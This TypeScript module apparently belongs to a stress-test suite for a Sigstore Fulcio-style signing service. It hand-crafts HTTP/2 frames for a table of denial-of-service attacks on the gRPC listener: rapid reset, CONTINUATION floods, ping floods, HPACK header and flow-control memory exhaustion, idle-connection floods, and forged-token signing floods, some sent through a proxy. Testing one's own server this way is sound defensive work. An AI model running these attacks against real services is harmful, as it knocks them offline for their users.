/** The attacks over HTTP/2, on the listener for gRPC without TLS: frames by hand, because libraries are too polite. */
import { setTimeout as sleep } from 'node:timers/promises';
import type { Socket } from 'node:net';
import {
  callFrame,
  callHead,
  Flag,
  frame,
  Frame,
  greeting,
  header,
} from '../test/server/http2/support/raw-frames.ts';
import { forgedToken, PEM } from './forged-requests.ts';
import { keepOpen, sendUnread } from './sockets.ts';
import type { Attack, AttackedService } from './attacks.ts';

const KIB = 1024;
const SIGN = '/dev.sigstore.fulcio.v2.CA/CreateSigningCertificate';
const BUNDLE = '/dev.sigstore.fulcio.v2.CA/GetTrustBundle';
const END = Flag.endStream;
const WHOLE_HEAD = Flag.endHeaders;

const ping = frame(Frame.ping, 0, Buffer.alloc(8));
const emptyMessage = Buffer.alloc(5);

/** As much of a frame as the service reads at once. */
const heap = (one: Buffer): Buffer =>
  Buffer.concat(Array.from({ length: Math.floor((64 * KIB) / one.length) }, () => one));

/** Ids of streams, in their order. */
const ids = (count: number, first = 0): number[] =>
  Array.from({ length: count }, (_, i) => 2 * (first + i) + 1);

const CANCEL = Buffer.from([0, 0, 0, 8]);

/** A stream that is taken back at once. */
const takenBack = (id: number): Buffer =>
  Buffer.concat([callFrame(id, SIGN), frame(Frame.reset, id, CANCEL)]);

/** Heads of requests that are refused in different places. */
const REQUESTS: readonly Buffer[] = [
  ...['GET', 'HEAD', 'OPTIONS', 'POST'].map((method) =>
    Buffer.concat([Buffer.from([0x86]), header(':method', method), header(':path', '/')]),
  ),
  Buffer.concat([header(':method', 'CONNECT'), header(':authority', 'localhost:80')]),
  callHead('/none'),
  callHead(SIGN, header('grpc-encoding', 'gzip')),
  callHead(SIGN, header('grpc-timeout', 'never')),
];

/** A field of Protobuf with bytes in it. */
function field(number: number, content: Uint8Array): Buffer {
  const length: number[] = [];
  for (let left = content.length; ; left = Math.floor(left / 128)) {
    if (left < 128) {
      length.push(left);
      break;
    }
    length.push((left % 128) + 128);
  }
  return Buffer.concat([Buffer.from([8 * number + 2, ...length]), content]);
}

function framed(message: Buffer, flags = 0): Buffer {
  const head = Buffer.alloc(5);
  head[0] = flags;
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

/** A signing call with a token that somebody else signed. */
function forgedCall(id: number, issuer: string, keyId: string): Buffer {
  const key = field(1, field(2, Buffer.from(PEM)));
  const message = [field(1, field(1, Buffer.from(forgedToken(issuer, keyId)))), field(2, key)];
  return Buffer.concat([callFrame(id, SIGN), frame(Frame.data, id, framed(Buffer.concat(message)), END)]);
}

/** Reads what comes and makes nothing of it. */
const drained = (socket: Socket): Socket => socket.resume();

/** The table. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  {
    name: 'h2-rapid-reset',
    what: '64 connections begin calls over gRPC and take them back at once, a thousand in a segment',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 64, perSecond: 200 }, until, (socket) => {
        drained(socket).write(Buffer.concat([greeting(), ...ids(500).map(takenBack)]));
      }),
  },
  {
    name: 'h2-taken-back',
    what: '64 connections begin requests of every kind over HTTP/2, also such as are no call, and take them back in the same segment',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 64, perSecond: 200 }, until, async (socket) => {
        drained(socket).write(greeting());
        for (let first = 0; !socket.destroyed; first += REQUESTS.length) {
          const pairs = REQUESTS.map((head, index) => {
            const id = 2 * (first + index) + 1;
            return Buffer.concat([
              frame(Frame.headers, id, head, WHOLE_HEAD),
              frame(Frame.reset, id, CANCEL),
            ]);
          });
          socket.write(Buffer.concat(pairs));
          await sleep(100);
        }
      }),
  },
  {
    name: 'h2-frames',
    what: '64 connections send 64 KiB of pings, settings, priorities, windows or unknown frames each, again and again',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 64, perSecond: 400 }, until, (socket) => {
        const kinds = [
          ping,
          frame(Frame.settings),
          frame(Frame.priority, 1, Buffer.from([0, 0, 0, 0, 1])),
          frame(Frame.window, 0, Buffer.from([0, 0, 0, 1])),
          frame(Frame.unknown, 1, Buffer.alloc(8)),
        ];
        const one = kinds[Math.floor(Math.random() * kinds.length)] ?? ping;
        sendUnread(socket, Buffer.concat([greeting(), heap(one)]));
      }),
  },
  {
    name: 'h2-paced-pings',
    what: '1,000 connections ping as often as they may',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 1000 }, until, async (socket) => {
        drained(socket).write(greeting());
        const few = Buffer.concat(Array.from({ length: 9 }, () => ping));
        while (!socket.destroyed) {
          socket.write(few);
          await sleep(500);
        }
      }),
  },
  {
    name: 'h2-continuation',
    what: '200 connections send a head over HTTP/2 that goes on and on',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 200, perSecond: 400 }, until, (socket) => {
        const more = frame(Frame.continuation, 1, header('x', 'y'.repeat(1000)));
        socket.write(Buffer.concat([greeting(), frame(Frame.headers, 1, callHead(SIGN)), heap(more)]));
      }),
  },
  {
    name: 'h2-indexed-heads',
    fillsMemory: true,
    what: '1,000 connections begin 8 calls each, with 50 headers of one byte on the wire, and come back when they are closed',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 1000, perSecond: 400 }, until, (socket) => {
        // Into the table once, with incremental indexing.
        const [, ...literal] = header('x', 'y');
        const first = Buffer.concat([callHead(SIGN), Buffer.from([0x40, ...literal])]);
        const rest = Buffer.concat([callHead(SIGN), Buffer.alloc(50, 0xbe)]);
        const calls = ids(8).map((id, index) =>
          frame(Frame.headers, id, index === 0 ? first : rest, WHOLE_HEAD),
        );
        socket.write(Buffer.concat([greeting(), ...calls]));
      }),
  },
  {
    name: 'h2-half-heads',
    fillsMemory: true,
    what: '1,500 connections send 12 KB of a head over HTTP/2 and do not end it',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 1500 }, until, (socket) => {
        const head = Buffer.concat([callHead(SIGN), header('x', 'y'.repeat(12 * KIB))]);
        socket.write(Buffer.concat([greeting(), frame(Frame.headers, 1, head)]));
      }),
  },
  {
    name: 'h2-unread-streams',
    fillsMemory: true,
    what: '600 connections make 32 calls each and open no window for the answers',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 600, perSecond: 200 }, until, (socket) => {
        const calls = ids(32).map((id) =>
          Buffer.concat([callFrame(id, BUNDLE), frame(Frame.data, id, emptyMessage, END)]),
        );
        // INITIAL_WINDOW_SIZE 0.
        socket.write(Buffer.concat([greeting(Buffer.from([0, 4, 0, 0, 0, 0])), ...calls]));
      }),
  },
  {
    name: 'h2-forged-tokens',
    what: '64 connections keep 32 signing calls with forged tokens under way',
    run: ({ grpcUrl, issuer, keyId }, until) =>
      keepOpen(grpcUrl, { count: 64 }, until, async (socket) => {
        drained(socket).write(greeting());
        for (let first = 0; !socket.destroyed; first += 32) {
          socket.write(Buffer.concat(ids(32, first).map((id) => forgedCall(id, issuer, keyId))));
          await sleep(200);
        }
      }),
  },
  {
    name: 'h2-half-messages',
    fillsMemory: true,
    what: '300 connections begin 4 messages of 255 KiB each and do not end them',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 300, perSecond: 200 }, until, async (socket) => {
        drained(socket).write(
          Buffer.concat([greeting(), ...ids(4).map((id) => callFrame(id, SIGN, WHOLE_HEAD))]),
        );
        // Fifteen kilobytes of each fill the window of the connection; the rest follows as the service opens it.
        for (let i = 0; i < 17 && !socket.destroyed; i++) {
          for (const id of ids(4)) socket.write(frame(Frame.data, id, Buffer.alloc(15 * KIB)));
          await sleep(200);
        }
      }),
  },
  {
    name: 'h2-kept-segments',
    fillsMemory: true,
    what: '500 connections leave 7 calls open, and send a few bytes for one of them with 45 KB for others, again and again',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 500, perSecond: 500 }, until, async (socket) => {
        drained(socket).write(
          Buffer.concat([greeting(), ...ids(7).map((id) => callFrame(id, SIGN, WHOLE_HEAD))]),
        );
        const filler = Buffer.alloc(15 * KIB);
        for (let i = 0; i < 56 && !socket.destroyed; i++) {
          // Eight pieces for each call that stays, and a call of its own for what is sent with five of them.
          const [kept, other] = [1 + 2 * Math.floor(i / 8), 15 + 2 * Math.floor(i / 5)];
          const [isFirst, isLast] = [i % 5 === 0, i % 5 === 4];
          const rest = [0, 1, 2].map((part) =>
            frame(Frame.data, other, filler, isLast && part === 2 ? END : 0),
          );
          socket.write(
            Buffer.concat([
              frame(Frame.data, kept, Buffer.alloc(256)),
              ...(isFirst ? [callFrame(other, SIGN, WHOLE_HEAD)] : []),
              ...rest,
            ]),
          );
          await sleep(40);
        }
        await sleep(5000);
      }),
  },
  {
    name: 'h2-compressed',
    what: '64 connections send messages that are compressed, one after the other',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 64 }, until, async (socket) => {
        drained(socket).write(greeting());
        const message = framed(Buffer.alloc(4 * KIB, 0x1f), 1);
        for (let first = 0; !socket.destroyed; first += 8) {
          for (const id of ids(8, first))
            socket.write(Buffer.concat([callFrame(id, SIGN), frame(Frame.data, id, message, END)]));
          await sleep(50);
        }
      }),
  },
  {
    name: 'h2-idle',
    what: '3,000 connections greet over HTTP/2 and stay',
    run: ({ grpcUrl }, until) =>
      keepOpen(grpcUrl, { count: 3000, perSecond: 1000 }, until, (socket) => {
        socket.write(greeting());
      }),
  },
  {
    name: 'h2-shared-taken-back',
    what: 'behind a trusted proxy: one client takes back 2,000 calls a second, on the connection that honest clients share',
    throughProxy: true,
    run: (target, until) =>
      keepOpen(proxyOf(target), { count: 4 }, until, async (socket) => {
        drained(socket).write(greeting());
        for (let first = 0; !socket.destroyed; first += 25) {
          socket.write(Buffer.concat(ids(25, first).map(takenBack)));
          await sleep(50);
        }
      }),
  },
  {
    name: 'h2-shared-left-open',
    what: 'behind a trusted proxy: one client begins calls of 255 KiB and does not end them, and reads no answers of others',
    throughProxy: true,
    run: (target, until) =>
      keepOpen(proxyOf(target), { count: 16 }, until, async (socket) => {
        const unread = ids(16).map((id) =>
          Buffer.concat([callFrame(id, BUNDLE), frame(Frame.data, id, emptyMessage, END)]),
        );
        socket.write(Buffer.concat([greeting(Buffer.from([0, 4, 0, 0, 0, 0])), ...unread]));
        for (const id of ids(4, 16)) socket.write(callFrame(id, SIGN, WHOLE_HEAD));
        for (let i = 0; i < 17 && !socket.destroyed; i++) {
          for (const id of ids(4, 16)) socket.write(frame(Frame.data, id, Buffer.alloc(15 * KIB)));
          await sleep(200);
        }
      }),
  },
  {
    name: 'h2-shared-forged-tokens',
    what: 'behind a trusted proxy: one client keeps 32 signing calls with forged tokens under way',
    throughProxy: true,
    run: (target, until) =>
      keepOpen(proxyOf(target), { count: 4 }, until, async (socket) => {
        drained(socket).write(greeting());
        for (let first = 0; !socket.destroyed; first += 8) {
          const calls = ids(8, first).map((id) => forgedCall(id, target.issuer, target.keyId));
          socket.write(Buffer.concat(calls));
          await sleep(50);
        }
      }),
  },
];

/** Where the proxy is. */
function proxyOf({ proxyUrl }: AttackedService): string {
  if (proxyUrl === undefined) throw new TypeError('this attack goes through a proxy');
  return proxyUrl;
}
